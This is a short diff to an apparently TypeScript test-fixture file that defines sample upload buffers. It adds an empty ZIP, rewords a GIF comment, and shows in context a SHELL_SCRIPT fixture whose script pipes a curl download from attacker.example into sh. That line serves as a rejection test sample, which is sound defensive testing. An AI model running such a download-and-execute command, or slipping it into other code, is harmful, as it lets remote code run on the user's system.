@@ -48,7 +48,10 @@ export const PNG = Buffer.from(
   'base64',
 );
 
-/** A 1×1 GIF: an image, but not one the desk accepts. */
+/** A ZIP archive (an empty one): neither a PDF nor an image. */
+export const ZIP = Buffer.from('UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==', 'base64');
+
+/** A 1×1 GIF: an image a PDF cannot draw as it is. */
 export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
 export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
